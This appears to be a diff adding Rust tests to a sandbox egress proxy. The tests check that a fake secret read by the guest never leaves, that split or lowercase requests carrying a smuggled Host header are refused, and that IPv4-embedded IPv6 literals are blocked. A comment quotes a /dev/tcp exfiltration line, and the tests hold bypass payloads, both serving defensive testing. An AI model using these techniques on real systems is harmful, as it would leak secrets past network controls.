@@ -1540,3 +1540,265 @@ async fn waiting_out_the_first_bytes_timer_does_not_skip_the_sni_check() {
     assert!(!rest.contains("GET"), "{rest}");
     assert_eq!(rep.await.unwrap().reason_code(), "bad-request");
 }
+
+// ------------------------------------------- no byte goes up unchecked
+
+const SECRET: &str = "sk-SECRET-7f3e9d2c";
+
+/// The harness's policy once the guest has read a secret: only
+/// api.anthropic.com (a trusted sink of the user's own file) stays open.
+fn after_secret_read() -> Policy {
+    policy_from(POLICY, Mode::Enforce)
+        .with_trusted_sinks(vec![
+            sandpen_policy::Target::parse("api.anthropic.com").unwrap()
+        ])
+        .with_labels(sandpen_policy::FlowLabels {
+            labels: vec![sandpen_policy::LabelSet {
+                label: sandpen_policy::Label::SecretRead,
+                at: "2026-12-04T12:00:00Z".into(),
+                by: "/w/secrets/token".into(),
+            }],
+        })
+}
+
+/// A refresh hook as the supervisor's label watch: once the flag is set,
+/// the next refresh installs [`after_secret_read`].
+fn label_when_flagged(h: &Harness) -> Arc<AtomicBool> {
+    let flag = Arc::new(AtomicBool::new(false));
+    let f = flag.clone();
+    h.proxy.set_refresh(Some(Arc::new(move |p: &Proxy| {
+        if f.swap(false, Ordering::SeqCst) {
+            p.set_policy(after_secret_read());
+        }
+    })));
+    flag
+}
+
+fn assert_cut_by_the_label(rep: &ConnectionReport) {
+    assert_eq!(rep.decision, Verdict::Deny, "{rep:?}");
+    assert!(
+        rep.reason
+            .starts_with("policy-changed: flow: secret-read at 2026-12-04T12:00:00Z"),
+        "{rep:?}"
+    );
+}
+
+async fn assert_nothing_arrived(got: &Mutex<Vec<u8>>) {
+    tokio::time::sleep(Duration::from_millis(200)).await;
+    let got = String::from_utf8_lossy(&got.lock().unwrap()).to_string();
+    assert!(
+        !got.contains(SECRET),
+        "the listener got the secret: {got:?}"
+    );
+    assert!(got.is_empty(), "the listener got {got:?}");
+}
+
+/// `exec 3<>/dev/tcp/leak.test/PORT`, then read the secret, then write it:
+/// the connection was allowed when it opened, but its first bytes leave
+/// after the label, so the label decides them.
+#[tokio::test]
+async fn first_bytes_written_after_a_secret_read_never_leave() {
+    let (port, got) = raw_sink().await;
+    let h = harness(Mode::Enforce);
+    let flag = label_when_flagged(&h);
+    let (mut guest, rep) = h.open(EgressMode::Transparent, "allowed.test", port);
+    // Decided and allowed; the guest has not written yet (and is quicker
+    // than the server-first wait).
+    tokio::time::sleep(Duration::from_millis(50)).await;
+    flag.store(true, Ordering::SeqCst);
+    guest
+        .write_all(format!("\0{SECRET}\n").as_bytes())
+        .await
+        .unwrap();
+    let rep = rep.await.unwrap();
+    assert_cut_by_the_label(&rep);
+    assert_nothing_arrived(&got).await;
+}
+
+/// The same on the server-first path: the proxy connected after the
+/// client's silence, and the client speaks 2 s later, after the read.
+#[tokio::test]
+async fn server_first_bytes_after_a_pause_and_a_secret_read_never_leave() {
+    let (port, got) = raw_sink().await;
+    let h = harness(Mode::Enforce);
+    let flag = label_when_flagged(&h);
+    let (mut guest, rep) = h.open(EgressMode::Transparent, "allowed.test", port);
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    flag.store(true, Ordering::SeqCst);
+    guest
+        .write_all(format!("\0{SECRET}\n").as_bytes())
+        .await
+        .unwrap();
+    let rep = rep.await.unwrap();
+    assert_eq!(rep.proto.as_deref(), Some("tcp"), "server-first: {rep:?}");
+    assert!(rep.addr.is_some(), "the proxy had connected: {rep:?}");
+    assert_cut_by_the_label(&rep);
+    assert_nothing_arrived(&got).await;
+}
+
+/// In HTTP-proxy mode the stream opens before the read and the CONNECT
+/// comes after it: it is decided by the policy in force then.
+#[tokio::test]
+async fn a_connect_sent_after_a_secret_read_is_refused() {
+    let (port, got) = raw_sink().await;
+    let h = harness(Mode::Enforce);
+    let flag = label_when_flagged(&h);
+    let (mut guest, rep) = h.open(EgressMode::HttpProxy, "", 0);
+    tokio::time::sleep(Duration::from_millis(50)).await;
+    flag.store(true, Ordering::SeqCst);
+    guest
+        .write_all(
+            format!("CONNECT allowed.test:{port} HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n\0{SECRET}\n")
+                .as_bytes(),
+        )
+        .await
+        .unwrap();
+    let resp = read_all(&mut guest).await;
+    assert!(resp.starts_with("HTTP/1.1 403"), "{resp}");
+    assert!(resp.contains("X-Sandpen-Reason: flow"), "{resp}");
+    let rep = rep.await.unwrap();
+    assert_eq!(rep.decision, Verdict::Deny, "{rep:?}");
+    assert!(rep.reason.starts_with("flow: secret-read"), "{rep:?}");
+    assert_nothing_arrived(&got).await;
+}
+
+// ------------------------------------------------ the Host check is total
+
+/// A request line in lower case, or split anywhere (`G` … `ET / HTTP/1.1`),
+/// is still a request: its `Host: other.test` never reaches the upstream of
+/// a connection allowed for another name, with or without ` raw`.
+#[tokio::test]
+async fn lowercase_and_split_request_lines_are_host_checked() {
+    let h = harness(Mode::Enforce);
+    let other = "Host: other.test\r\n\r\n";
+    let cases: [(&str, &[&str]); 5] = [
+        ("lowercase", &["get / HTTP/1.1\r\n"]),
+        ("split after G", &["G", "ET / HTTP/1.1\r\n"]),
+        ("split in the version", &["GET / HT", "TP/1.1\r\n"]),
+        (
+            "blank line, lower case, split",
+            &["\r\nge", "t / http/1.1\r\n"],
+        ),
+        ("custom method", &["x-fetch /a HTTP/1.1\r\n"]),
+    ];
+    for claimed in ["allowed.test", "web.test"] {
+        for (what, chunks) in cases {
+            let (port, got) = raw_sink().await;
+            let (mut guest, rep) = h.open(EgressMode::Transparent, claimed, port);
+            for (i, chunk) in chunks.iter().enumerate() {
+                if i > 0 {
+                    // Longer than the server-first wait: not a reason to stop looking.
+                    tokio::time::sleep(Duration::from_millis(300)).await;
+                }
+                guest.write_all(chunk.as_bytes()).await.unwrap();
+            }
+            guest.write_all(other.as_bytes()).await.unwrap();
+            let resp = read_all(&mut guest).await;
+            let rep = rep.await.unwrap();
+            assert_eq!(rep.decision, Verdict::Deny, "{claimed} {what}: {rep:?}");
+            assert!(
+                matches!(rep.reason_code(), "host-mismatch" | "bad-request"),
+                "{claimed} {what}: {rep:?}"
+            );
+            if what != "blank line, lower case, split" {
+                assert!(resp.starts_with("HTTP/1.1 403"), "{claimed} {what}: {resp}");
+                assert_eq!(rep.reason_code(), "host-mismatch", "{claimed} {what}");
+            }
+            let sent = String::from_utf8_lossy(&got.lock().unwrap()).to_string();
+            assert!(
+                sent.is_empty(),
+                "{claimed} {what}: the upstream got {sent:?}"
+            );
+        }
+    }
+}
+
+/// After the server-first wait a split request is refused too, and on a
+/// name rule without ` raw` the silent client is refused before anything
+/// connects.
+#[tokio::test]
+async fn a_split_request_after_the_server_first_wait_is_refused() {
+    let h = harness(Mode::Enforce);
+    for claimed in ["allowed.test", "web.test"] {
+        let (port, got) = raw_sink().await;
+        let (mut guest, rep) = h.open(EgressMode::Transparent, claimed, port);
+        tokio::time::sleep(Duration::from_millis(400)).await;
+        let _ = guest.write_all(b"G").await;
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        let _ = guest
+            .write_all(b"ET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
+            .await;
+        let rep = rep.await.unwrap();
+        assert_eq!(rep.decision, Verdict::Deny, "{claimed}: {rep:?}");
+        let want = if claimed == "web.test" {
+            "raw-refused"
+        } else {
+            "bad-request"
+        };
+        assert_eq!(rep.reason_code(), want, "{claimed}: {rep:?}");
+        assert_nothing_arrived(&got).await;
+    }
+}
+
+/// Bytes that are neither HTTP nor TLS pass only where the rule that
+/// allowed the name says `raw`.
+#[tokio::test]
+async fn raw_bytes_need_a_raw_rule() {
+    let h = harness(Mode::Enforce);
+    let (port, got) = raw_sink().await;
+    let (mut guest, rep) = h.open(EgressMode::Transparent, "web.test", port);
+    guest
+        .write_all(b"\0\0\0\x08\x04\xd2\x16\x2f")
+        .await
+        .unwrap();
+    let rep = rep.await.unwrap();
+    assert_eq!(rep.decision, Verdict::Deny, "{rep:?}");
+    assert_eq!(rep.reason_code(), "raw-refused", "{rep:?}");
+    assert_eq!(rep.rule.as_deref(), Some("allow web.test"), "{rep:?}");
+    assert_eq!(rep.addr, None, "nothing was connected");
+    assert_nothing_arrived(&got).await;
+
+    let (mut guest, rep) = h.open(EgressMode::Transparent, "allowed.test", port);
+    guest
+        .write_all(b"\0\0\0\x08\x04\xd2\x16\x2f")
+        .await
+        .unwrap();
+    wait_for_bytes(&got, "\u{4}").await;
+    drop(guest);
+    assert_eq!(rep.await.unwrap().decision, Verdict::Allow);
+}
+
+// ---------------------------------------------------------- blocked forms
+
+/// The IPv6 forms that embed an IPv4 address, and the host's own
+/// addresses, are refused as literals even under `allow **` (by name: the
+/// policy crate's tests, which give `check` the resolved addresses).
+#[tokio::test]
+async fn new_blocked_forms_are_refused_as_literals() {
+    let h = harness_with(
+        policy_from(
+            "[[network]]\nid = 1\naction = \"allow\"\ntarget = \"**\"\n",
+            Mode::Enforce,
+        ),
+        |_| {},
+    );
+    let mut literals: Vec<String> = [
+        "::127.0.0.1",
+        "::a00:1",
+        "64:ff9b:1::a00:1",
+        "2002:a00:1::1",
+    ]
+    .iter()
+    .map(|s| s.to_string())
+    .collect();
+    for ip in sandpen_policy::hostaddrs::host_addresses() {
+        literals.push(ip.to_string());
+    }
+    for lit in literals {
+        let (_guest, rep) = h.open(EgressMode::Transparent, &lit, 8080);
+        let rep = rep.await.unwrap();
+        assert_eq!(rep.decision, Verdict::Deny, "{lit}: {rep:?}");
+        assert_eq!(rep.reason_code(), "blocked-address", "{lit}: {rep:?}");
+        h.assert_check_agrees(&rep).await;
+    }
+}
